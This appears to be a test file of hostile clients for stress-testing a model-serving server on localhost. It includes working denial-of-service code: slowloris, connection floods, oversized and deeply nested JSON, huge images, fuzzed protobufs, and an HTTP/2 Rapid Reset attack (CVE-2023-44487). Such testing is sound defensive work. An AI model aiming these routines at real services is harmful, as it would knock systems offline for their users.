"""Clients that mean no good: `python -m tests.serving.attacks NAME GRPC_PORT REST_PORT`.

Each goes on until it is killed. Models: `half`, `counter` and `pictures` of tiny_models.
"""

import contextlib
import http.client
import itertools
import os
import random
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from io import BytesIO
from typing import Any

import grpc
import numpy as np
from PIL import Image

from serving.protos import predict_pb2, types_pb2
from serving.tensors import to_proto

PREDICT = "/tensorflow.serving.PredictionService/Predict"
OPTIONS = [("grpc.max_receive_message_length", -1), ("grpc.max_send_message_length", -1)]
LARGE_JSON = b'{"inputs": [' + b"0.25," * 4_000_000 + b"1]}"
Attack = Callable[[int, int], None]


def predict(grpc_port: int) -> Any:
    """A Predict call of bytes, over a connection of its own."""
    return grpc.insecure_channel(f"127.0.0.1:{grpc_port}", OPTIONS).unary_unary(PREDICT)


def request(model: str, **inputs: Any) -> predict_pb2.PredictRequest:
    message = predict_pb2.PredictRequest()
    message.model_spec.name = model
    for name, value in inputs.items():
        message.inputs[name].CopyFrom(to_proto(value))
    return message


def again(threads: int, action: Callable[[], object]) -> None:
    """Do `action` for good, whatever becomes of it."""

    def repeat() -> None:
        while True:
            with contextlib.suppress(grpc.RpcError, OSError, http.client.HTTPException):
                action()

    for _ in range(threads):
        threading.Thread(target=repeat, daemon=True).start()
    threading.Event().wait()


def post(rest_port: int, model: str, body: bytes) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", rest_port, timeout=60)
    with contextlib.closing(connection):
        connection.request("POST", f"/v1/models/{model}:predict", body)
        response = connection.getresponse()
        response.read()
        return response.status


def large_pictures(count: int) -> predict_pb2.PredictRequest:
    """Pictures of 64 megapixels each."""
    file = BytesIO()
    Image.new("L", (8000, 8000)).save(file, "PNG", compress_level=1)
    return request("pictures", image_bytes=np.array([file.getvalue()] * count, object))


def silent_calls(grpc_port: int, rest_port: int) -> None:
    def nothing() -> Iterator[bytes]:
        threading.Event().wait()
        yield b""

    channel = grpc.insecure_channel(f"127.0.0.1:{grpc_port}")
    calls = [channel.stream_unary(PREDICT).future(nothing()) for _ in range(95)]
    threading.Event().wait()
    del calls


def partial_bodies(grpc_port: int, rest_port: int) -> None:
    head = b"POST /v1/models/half:predict HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n{"
    lines = [socket.create_connection(("127.0.0.1", rest_port)) for _ in range(80)]
    for line in lines:
        line.sendall(head)
    threading.Event().wait()


def slowloris(grpc_port: int, rest_port: int) -> None:
    lines = [socket.create_connection(("127.0.0.1", rest_port)) for _ in range(200)]
    for number in itertools.count():
        for line in lines:
            with contextlib.suppress(OSError):
                line.sendall(b"GET / HTTP/1.1\r\n" if number == 0 else b"X-A: b\r\n")
        time.sleep(0.1)


def connections(grpc_port: int, rest_port: int) -> None:
    ports = [grpc_port, rest_port] * 250
    lines = [socket.create_connection(("127.0.0.1", port)) for port in ports]
    threading.Event().wait()
    del lines


def passed_deadlines(grpc_port: int, rest_port: int) -> None:
    data = request("counter", turns=np.int64(10**9)).SerializeToString()
    call = predict(grpc_port)
    again(8, lambda: call(data, timeout=0.5))


def claims(grpc_port: int, rest_port: int) -> None:
    """Few bytes that stand for 2^26 floats, and for as many as are allowed."""
    call = predict(grpc_port)
    sizes = itertools.cycle([1 << 26, 1 << 22])

    def claim() -> None:
        message = request("half")
        proto = message.inputs["x"]
        proto.dtype = types_pb2.DT_FLOAT
        proto.tensor_shape.dim.add().size = next(sizes)
        proto.float_val.append(1)
        call(message.SerializeToString(), timeout=30)
        time.sleep(0.1)

    again(2, claim)


def large_json(grpc_port: int, rest_port: int) -> None:
    again(2, lambda: post(rest_port, "half", LARGE_JSON))


def deep_json(grpc_port: int, rest_port: int) -> None:
    depths = itertools.cycle([60, 300, 900, 100_000])

    def dive() -> None:
        depth = next(depths)
        post(rest_port, "half", b'{"inputs":' + b"[" * depth + b"1" + b"]" * depth + b"}")

    again(2, dive)


def many_frames(grpc_port: int, rest_port: int) -> None:
    file = BytesIO()
    frames = [Image.new("L", (2000, 2000), 255 * (number % 2)) for number in range(30)]
    frames[0].save(file, "GIF", save_all=True, append_images=frames[1:])
    pictures = np.array([file.getvalue()], object)
    data = request("pictures", image_bytes=pictures).SerializeToString()
    call = predict(grpc_port)
    again(2, lambda: call(data, timeout=30))


def many_pictures(grpc_port: int, rest_port: int) -> None:
    messages = itertools.cycle([large_pictures(count) for count in (2, 32)])
    call = predict(grpc_port)
    again(2, lambda: call(next(messages).SerializeToString(), timeout=30))


def random_messages(grpc_port: int, rest_port: int) -> None:
    chance = random.Random(1)
    good = request("half", x=np.float32([1, 2])).SerializeToString()
    call = predict(grpc_port)

    def rubbish() -> None:
        data = bytearray(good if chance.random() < 0.5 else chance.randbytes(50))
        for _ in range(3):
            data[chance.randrange(len(data))] = chance.randrange(256)
        call(bytes(data), timeout=30)
        time.sleep(0.002)

    again(2, rubbish)


def cancellations(grpc_port: int, rest_port: int) -> None:
    data = request("counter", turns=np.int64(10**9)).SerializeToString()
    call = predict(grpc_port)

    def give_up() -> None:
        future = call.future(data, timeout=30)
        time.sleep(0.005)
        future.cancel()

    again(2, give_up)


def rapid_reset(grpc_port: int, rest_port: int) -> None:
    """Opens streams of HTTP/2 and resets each at once (CVE-2023-44487)."""

    def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
        return (
            struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content
        )

    def literal(name: bytes, value: bytes) -> bytes:
        return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value

    names = {
        b":method": b"POST", b":scheme": b"http", b":path": PREDICT.encode(),
        b":authority": b"x", b"te": b"trailers", b"content-type": b"application/grpc",
    }  # fmt: skip
    headers = b"".join(literal(*pair) for pair in names.items())

    def storm() -> None:
        with socket.create_connection(("127.0.0.1", grpc_port)) as line:
            threading.Thread(target=drain, args=[line], daemon=True).start()
            line.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            for stream in range(1, 20_000, 2):
                reset = frame(3, 0, stream, struct.pack(">I", 8))
                line.sendall(frame(1, 4, stream, headers) + reset)
                if stream % 200 == 1:
                    time.sleep(0.01)

    def drain(line: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while line.recv(65536):
                pass

    again(2, storm)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        silent_calls,
        partial_bodies,
        slowloris,
        connections,
        passed_deadlines,
        claims,
        large_json,
        deep_json,
        many_frames,
        many_pictures,
        random_messages,
        cancellations,
        rapid_reset,
    )
}

if __name__ == "__main__":
    os.nice(5)
    ATTACKS[sys.argv[1]](int(sys.argv[2]), int(sys.argv[3]))
